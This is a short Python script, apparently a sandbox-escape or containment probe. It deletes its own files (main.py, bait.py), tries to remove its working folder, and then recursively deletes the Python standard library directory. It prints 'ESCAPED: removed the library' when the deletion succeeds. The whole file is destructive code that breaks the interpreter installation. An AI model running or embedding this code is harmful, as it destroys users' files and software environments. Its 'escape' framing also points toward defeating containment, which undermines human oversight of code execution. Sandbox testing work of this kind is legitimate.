"""Deletes its own program, its folder and the interpreter's library."""

import os
import shutil

for path in ("main.py", "bait.py", "."):
    try:
        shutil.rmtree(path) if os.path.isdir(path) else os.unlink(path)
    except OSError:
        pass
shutil.rmtree(os.path.dirname(os.__file__), ignore_errors=True)
if not os.path.exists(os.__file__):
    print("ESCAPED: removed the library")
